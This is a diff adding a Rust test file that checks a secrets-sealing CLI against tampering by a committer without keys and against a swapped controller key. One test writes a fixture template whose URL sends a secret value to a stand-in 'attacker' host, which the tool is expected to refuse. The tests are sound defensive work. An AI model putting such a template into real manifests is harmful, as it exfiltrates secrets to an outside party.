@@ -1,0 +1,484 @@
+//! Attacks on `seal` with v2 values by a committer without keys, who changes the files that a user sets values in.
+#![expect(clippy::expect_used, reason = "a test")]
+
+use std::fs;
+use std::io::Write as _;
+use std::path::Path;
+use std::process::Output;
+use std::sync::Arc;
+use std::sync::atomic::AtomicUsize;
+use std::sync::atomic::Ordering::SeqCst;
+
+use shared::key::Certificate;
+use shared::manifest;
+use shared::resource::SealedSecret;
+use shared::v2::{Object, Recipient as _, SecretKey, Suite};
+
+use crate::api_server::{self, Body, certificate_path, service_body, service_path};
+use crate::support::{assert_code, assert_contains, command, git, stderr, write_files};
+use crate::v2::{RULES, folder, read, seal, seal_well, v2_key};
+
+const CREATE: [&str; 6] = ["create", "db", "-n", "shop", "--from-file", "a=value"];
+
+/// Sets an item, in a file that it must not change.
+#[track_caller]
+fn assert_refused(folder: &Path, args: &[&str], file: &str, why: &str) -> Output {
+    let before = read(folder, file);
+    let output = seal(folder, args);
+    assert_code(&output, 2, why);
+    assert_contains(&output, why, format!("{args:?}"));
+    assert_eq!(read(folder, file), before);
+    output
+}
+
+fn set(item: &str) -> [&str; 5] {
+    ["set", "db.yaml", item, "--from-file", "value"]
+}
+
+/// Returns the line of an item in a file.
+fn line_of(text: &str, item: &str) -> String {
+    let start = format!("    {item}: ");
+    let line = text.lines().find(|line| line.starts_with(&start));
+    line.expect("an item").to_owned()
+}
+
+/// Adds a line to `encryptedData`.
+fn with_line(text: &str, line: &str) -> String {
+    text.replacen(
+        "  encryptedData:\n",
+        &format!("  encryptedData:\n{line}\n"),
+        1,
+    )
+}
+
+#[track_caller]
+fn is_bound(folder: &Path, item: &str) -> bool {
+    let documents = manifest::read(read(folder, "db.yaml").as_bytes()).expect("valid");
+    let (sealed, _) = SealedSecret::all_from_document(&documents[0]).expect("valid");
+    let object = Object::parse(&sealed[0].spec.encrypted_data).expect("valid");
+    object.view()[item].is_template_bound
+}
+
+/// Attack: a committer adds a v1 item to a bound file, so that the next value is sealed unbound and can be used in another
+/// template.
+#[test]
+fn a_v1_item_does_not_free_new_values_from_the_template() {
+    let folder = folder();
+    let folder = folder.path();
+    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    let v1 = [
+        "--sealed-format",
+        "v1",
+        "--cert",
+        "cert.pem",
+        "-w",
+        "v1.yaml",
+    ];
+    seal_well(
+        folder,
+        &[&CREATE[..], &["--from-file", "x=value"], &v1].concat(),
+    );
+    let line = line_of(&read(folder, "v1.yaml"), "x");
+    let text = with_line(&read(folder, "db.yaml"), &line);
+    write_files(folder, &[("db.yaml", &text)]);
+    let output = assert_refused(folder, &set("a"), "db.yaml", "is bound to the template");
+    assert_contains(&output, "seal unset", "the next step");
+    seal_well(folder, &["unset", "db.yaml", "x"]);
+    seal_well(folder, &set("a"));
+    assert!(is_bound(folder, "a"));
+}
+
+/// Attack: a committer replaces all bound items by unbound ones of their own, so that the next value is sealed unbound.
+#[test]
+fn unbound_items_do_not_free_new_values_from_the_template() {
+    let folder = folder();
+    let folder = folder.path();
+    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    let bound = read(folder, "db.yaml");
+    let unbound_rule = RULES.to_owned() + "  bindTemplate: false\n";
+    write_files(folder, &[(".seal.yaml", &unbound_rule)]);
+    let create = [&CREATE[..], &["--from-file", "b=value", "-w", "own.yaml"]].concat();
+    seal_well(folder, &create);
+    let own = read(folder, "own.yaml");
+
+    // The last commit has the binding.
+    write_files(folder, &[("db.yaml", &bound)]);
+    git(folder, &["init", "-q"]);
+    git(folder, &["add", "db.yaml"]);
+    git(folder, &["commit", "-qm", "bound"]);
+    write_files(folder, &[("db.yaml", &own)]);
+    let output = assert_refused(folder, &set("a"), "db.yaml", "no longer in the file");
+    assert_contains(&output, "seal diff", "the next step");
+
+    // The rule demands the binding.
+    git(folder, &["commit", "-qam", "unbound"]);
+    write_files(folder, &[(".seal.yaml", RULES)]);
+    let output = seal_well(folder, &set("a"));
+    assert!(
+        output.contains("seal rotate --to v2 --bind-template"),
+        "{output}"
+    );
+    assert!(is_bound(folder, "a") && !is_bound(folder, "b"));
+
+    // Neither does.
+    write_files(folder, &[(".seal.yaml", &unbound_rule), ("db.yaml", &own)]);
+    seal_well(folder, &set("a"));
+    assert!(!is_bound(folder, "a"));
+}
+
+/// Attack: a committer changes the template of a bound file, so that the next value is bound to the changed template.
+#[test]
+fn new_values_are_not_bound_to_a_changed_template() {
+    let folder = folder();
+    let folder = folder.path();
+    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    let bound = read(folder, "db.yaml");
+    let changed = bound.clone() + "    data:\n      url: 'https://attacker/?{{ .a }}'\n";
+    write_files(folder, &[("db.yaml", &changed)]);
+    let output = assert_refused(
+        folder,
+        &set("a"),
+        "db.yaml",
+        "the template of shop/db was changed",
+    );
+    assert_contains(&output, "revert the change", "the next step");
+
+    // The committer removes the bound item as well.
+    git(folder, &["init", "-q"]);
+    write_files(folder, &[("db.yaml", &bound)]);
+    git(folder, &["add", "db.yaml"]);
+    git(folder, &["commit", "-qm", "bound"]);
+    write_files(folder, &[("db.yaml", &changed)]);
+    seal_well(folder, &["unset", "db.yaml", "a"]);
+    assert_refused(folder, &set("a"), "db.yaml", "no longer in the file");
+    write_files(folder, &[("db.yaml", &bound)]);
+    seal_well(folder, &["unset", "db.yaml", "a"]);
+    seal_well(folder, &set("a"));
+    assert!(is_bound(folder, "a"), "the template is that of the commit");
+}
+
+/// Attack: a committer without keys hides from the report of a compromised key that values are sealed for it: by a further
+/// recipient, by a change for which controllers refuse the object, or by a malformed entry.
+#[test]
+fn a_compromised_key_exposes_values_with_other_recipients_and_in_refused_objects() {
+    let folder = folder();
+    let folder = folder.path();
+    let rules =
+        RULES.replace("[cluster.txt]", "[cluster.txt, cert.pem]") + "  allowClassical: true\n";
+    write_files(
+        folder,
+        &[
+            (".seal.yaml", &rules),
+            ("state/keys/rsa.yaml", &rsa_key(folder)),
+            ("state/keys/xw.yaml", &v2_key("key-xw", 1, 1)),
+            ("state/sealed/README", ""),
+        ],
+    );
+    git(folder, &["init", "-q"]);
+    for (name, change) in [
+        ("both", None),
+        (
+            "refused",
+            Some(("  template:\n", "  template:\n    type: Changed\n")),
+        ),
+        (
+            "malformed",
+            Some(("  encryptedData:\n", "  encryptedData:\n    /x: abc\n")),
+        ),
+    ] {
+        let file = format!("tree/{name}.yaml");
+        let create = ["create", name, "-n", "shop", "--from-file", "a=value"];
+        let create = [&create[..], &["--from-file", "b=value", "-w", &file]].concat();
+        fs::create_dir_all(folder.join("tree")).expect("ours");
+        seal_well(folder, &create);
+        if let Some((from, to)) = change {
+            let text = read(folder, &file);
+            let changed = text.replacen(from, to, 1);
+            assert_ne!(changed, text, "{name}");
+            write_files(folder, &[(&file, &changed)]);
+        }
+    }
+    git(folder, &["add", "tree"]);
+    git(folder, &["commit", "-qm", "values"]);
+    for key in ["key-rsa", "key-xw"] {
+        let args = [
+            "keys",
+            "compromise",
+            key,
+            "tree",
+            "--directory",
+            "state",
+            "--dry-run",
+        ];
+        let output = seal(folder, &args);
+        assert_code(&output, 0, key);
+        for name in ["both", "refused", "malformed"] {
+            assert_contains(&output, &format!("tree/{name}.yaml ({name})"), key);
+            assert_contains(&output, &format!("{name}/a"), key);
+        }
+        let args = ["keys", "status", "tree", "--directory", "state"];
+        assert_contains(&seal(folder, &args), "0        3", "status");
+    }
+}
+
+/// Returns the Secret of the RSA key of the folder.
+fn rsa_key(folder: &Path) -> String {
+    let encoded = |file: &str| shared::base64::encode(read(folder, file).as_bytes());
+    format!(
+        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: key-rsa\n  namespace: ops\n  labels:\n    \
+         sealedsecrets.bitnami.com/sealed-secrets-key: active\ntype: kubernetes.io/tls\ndata:\n  tls.crt: {}\n  \
+         tls.key: {}\n",
+        encoded("cert.pem"),
+        encoded("key.pem")
+    )
+}
+
+/// Attack: a committer allows a classical key in the rule, so that existing values become readable for a quantum computer
+/// when a user re-encrypts them.
+#[test]
+fn a_rule_alone_does_not_allow_classical_keys_for_existing_values() {
+    let folder = folder();
+    let folder = folder.path();
+    seal_well(folder, &[&CREATE[..], &["-w", "db.yaml"]].concat());
+    let before = read(folder, "db.yaml");
+    let classical = RULES.replace("[cluster.txt]", "[cluster.txt, cert.pem]");
+    let classical = classical + "  allowClassical: true\n";
+    write_files(folder, &[(".seal.yaml", &classical)]);
+    let keys = [
+        "rotate",
+        "db.yaml",
+        "--key",
+        "cluster.key",
+        "--key",
+        "key.pem",
+    ];
+    let output = seal(folder, &keys);
+    assert_code(&output, 2, "only a rule allows the key");
+    assert_contains(&output, "forbids keys that are not post-quantum", "rotate");
+    assert_contains(&output, "pass --allow-classical", "rotate");
+    assert_eq!(read(folder, "db.yaml"), before);
+    let printed = seal_well(folder, &[&keys[..], &["--allow-classical"]].concat());
+    assert!(
+        printed.contains("no longer for post-quantum keys only"),
+        "{printed}"
+    );
+    seal_well(folder, &["view", "db.yaml", "--reveal", "--key", "key.pem"]);
+}
+
+/// Attack: a committer adds a stanza that does not open anything for another key, so that the key that the values need is
+/// retired.
+#[test]
+fn a_stanza_that_does_not_open_is_no_other_recipient() {
+    let folder = folder();
+    let folder = folder.path();
+    write_files(
+        folder,
+        &[
+            ("state/keys/old.yaml", &v2_key("key-old", 1, 1)),
+            ("state/keys/new.yaml", &v2_key("key-new", 2, 2)),
+            ("state/sealed/README", ""),
+        ],
+    );
+    let both = RULES.replace("[cluster.txt]", "[cluster.txt, new.txt]");
+    let exported = seal_well(folder, &["keys", "export", "--directory", "state"]);
+    let id_new = exported
+        .split(' ')
+        .nth(2)
+        .expect("an identifier")
+        .to_owned();
+    write_files(folder, &[("new.txt", &exported)]);
+    let more = ["--from-file", "b=value", "-w"];
+    seal_well(folder, &[&CREATE[..], &more, &["db.yaml"]].concat());
+    write_files(folder, &[(".seal.yaml", &both)]);
+    seal_well(folder, &[&CREATE[..], &more, &["other.yaml"]].concat());
+    let retire = |file| {
+        let retire = [
+            "keys",
+            "retire",
+            "key-old",
+            file,
+            "--directory",
+            "state",
+            "--dry-run",
+        ];
+        seal(folder, &retire)
+    };
+    let new_only = RULES.replace("cluster.txt", "new.txt");
+    write_files(folder, &[(".seal.yaml", &new_only)]);
+    let output = retire("db.yaml");
+    assert_code(&output, 1, "the only recipient");
+    assert_contains(&output, "2 items need it", "the only recipient");
+    // A stanza from another lock, for the other key of the store.
+    let (db, other) = (read(folder, "db.yaml"), read(folder, "other.yaml"));
+    let own_lock = entry(&db, ID_OF_CLUSTER).0;
+    let (stranger, value) = entry(&other, &id_new);
+    let stanza = format!(
+        "    {}: {value}",
+        stranger.replace(&lock_of(&stranger), &lock_of(&own_lock))
+    );
+    write_files(folder, &[("db.yaml", &with_line(&db, &stanza))]);
+    let output = retire("db.yaml");
+    assert_code(&output, 1, "a stanza that does not open");
+    assert_contains(
+        &output,
+        "db.yaml (db), item a",
+        "a stanza that does not open",
+    );
+    assert_code(&retire("other.yaml"), 0, "another recipient that opens");
+}
+
+const ID_OF_CLUSTER: &str = "1f79tcRB6C15M6q5Y1tFHQ";
+
+/// Returns name and value of the stanza for a key.
+fn entry(text: &str, key: &str) -> (String, String) {
+    let is_stanza = |line: &&str| line.contains("/lock/") && line.contains(&format!("/{key}"));
+    let line = text.lines().find(is_stanza).expect("a stanza");
+    let (name, value) = line.trim().split_once(": ").expect("an entry");
+    (name.to_owned(), value.to_owned())
+}
+
+/// Returns the identifier of the lock in the name of an entry.
+fn lock_of(name: &str) -> String {
+    name.split('/').nth(2).expect("a lock").to_owned()
+}
+
+/// Attack: a server between the user and the controller replaces the key that the controller prefers for v2 values, and then
+/// offers one that is not post-quantum.
+#[test]
+fn a_changed_preferred_key_is_reported() {
+    let folder = folder();
+    let folder = folder.path();
+    fs::remove_file(folder.join(".seal.yaml")).expect("ours");
+    let lists = preferred_keys(folder);
+    let served: Arc<AtomicUsize> = Arc::default();
+    let index = Arc::clone(&served);
+    let list: Body = Box::new(move |to| to.write_all(lists[index.load(SeqCst)].as_bytes()));
+    let (namespace, name) = ("kube-system", "sealed-secrets-controller");
+    let path = certificate_path(namespace, name).replace("/v1/cert.pem", "/v2/recipients");
+    let responses = vec![
+        (service_path(namespace, name), service_body()),
+        (path, list),
+    ];
+    let kubeconfig = api_server::serve(folder, responses);
+    let create = || {
+        let mut command = command(env!("CARGO_BIN_EXE_seal"), folder, &kubeconfig);
+        command.args(CREATE).args(["--sealed-format", "v2"]);
+        command.env("XDG_CACHE_HOME", folder.join("cache"));
+        let output = command.current_dir(folder).output().expect("it runs");
+        assert_code(&output, 0, "create");
+        stderr(&output)
+    };
+    for (index, want) in [
+        (0, None),
+        (0, None),
+        (1, Some("has changed to xw ")),
+        (1, None),
+        (
+            2,
+            Some(", which is not post-quantum, unlike the previous one; the previous one was xw "),
+        ),
+    ] {
+        served.store(index, SeqCst);
+        let printed = create();
+        let is_reported =
+            printed.contains("the key of kube-system/sealed-secrets-controller for v2");
+        assert_eq!(is_reported, want.is_some(), "{index}: {printed}");
+        assert!(
+            printed.contains(want.unwrap_or_default()),
+            "{index}: {printed}"
+        );
+    }
+}
+
+/// Returns responses of `/v2/recipients`: two post-quantum keys, and an RSA key.
+fn preferred_keys(folder: &Path) -> [String; 3] {
+    let list = |suite: &str, id: String, field: &str, key: &str| {
+        let listed = serde_json::json!({
+            "suite": suite, "keyId": id, field: key,
+            "notBefore": "2020-01-01T00:00:00Z", "notAfter": "2200-01-01T00:00:00Z",
+        });
+        serde_json::json!({"recipients": [listed]}).to_string()
+    };
+    let line = |byte: u8| {
+        let key = SecretKey::from_bytes(Suite::XWing, &[byte; 32]).expect("a key");
+        let recipient = key.recipient();
+        list(
+            "xw",
+            recipient.key_id().to_string(),
+            "recipient",
+            &recipient.to_string(),
+        )
+    };
+    let pem = read(folder, "cert.pem");
+    let certificate = Certificate::from_pem(pem.as_bytes()).expect("a certificate");
+    let id = certificate.public_key().key_id().to_string();
+    [line(1), line(2), list("rsa", id, "certificate", &pem)]
+}
+
+/// Fault: rules still name a key that is retired or compromised, in the working tree or on another branch, so that colleagues
+/// seal values that no controller opens, or that an attacker opens.
+#[test]
+fn rules_that_name_a_key_keep_it_and_are_reported() {
+    let folder = folder();
+    let folder = folder.path();
+    write_files(
+        folder,
+        &[
+            ("state/keys/old.yaml", &v2_key("key-old", 1, 1)),
+            ("state/keys/new.yaml", &v2_key("key-new", 2, 2)),
+            ("state/sealed/README", ""),
+            ("tree/README", ""),
+        ],
+    );
+    let line = read(folder, "cluster.txt");
+    let by_line = RULES.replace("[cluster.txt]", &format!("['{}']", line.trim()));
+    let retire = |more: &[&str]| {
+        let retire = [
+            "keys",
+            "retire",
+            "key-old",
+            "tree",
+            "--directory",
+            "state",
+            "--dry-run",
+        ];
+        seal(folder, &[&retire, more].concat())
+    };
+    for rules in [RULES, &by_line] {
+        write_files(folder, &[(".seal.yaml", rules)]);
+        git(folder, &["init", "-q"]);
+        let output = retire(&[]);
+        assert_code(&output, 1, rules);
+        assert_contains(
+            &output,
+            ".seal.yaml, rule 1 (line 2): names it as a recipient",
+            rules,
+        );
+        let compromise = [
+            "keys",
+            "compromise",
+            "key-old",
+            "tree",
+            "--directory",
+            "state",
+        ];
+        let output = seal(folder, &[&compromise[..], &["--dry-run"]].concat());
+        assert_code(&output, 0, rules);
+        assert_contains(&output, "replace it in the `recipients` of", rules);
+    }
+    git(folder, &["add", ".seal.yaml", "cluster.txt"]);
+    git(folder, &["commit", "-qm", "named"]);
+    git(folder, &["branch", "other"]);
+    write_files(folder, &[(".seal.yaml", RULES)]);
+    git(folder, &["commit", "-qam", "named by a file"]);
+    git(folder, &["branch", "file"]);
+    git(folder, &["rm", "-q", "-f", ".seal.yaml"]);
+    git(folder, &["commit", "-qm", "removed"]);
+    assert_code(&retire(&[]), 0, "no rule");
+    let output = retire(&["--all-branches"]);
+    assert_code(&output, 1, "a rule on a branch");
+    for branch in ["other", "file"] {
+        let want = format!("{branch}:.seal.yaml, rule 1 (line 2): names it as a recipient");
+        assert_contains(&output, &want, branch);
+    }
+}
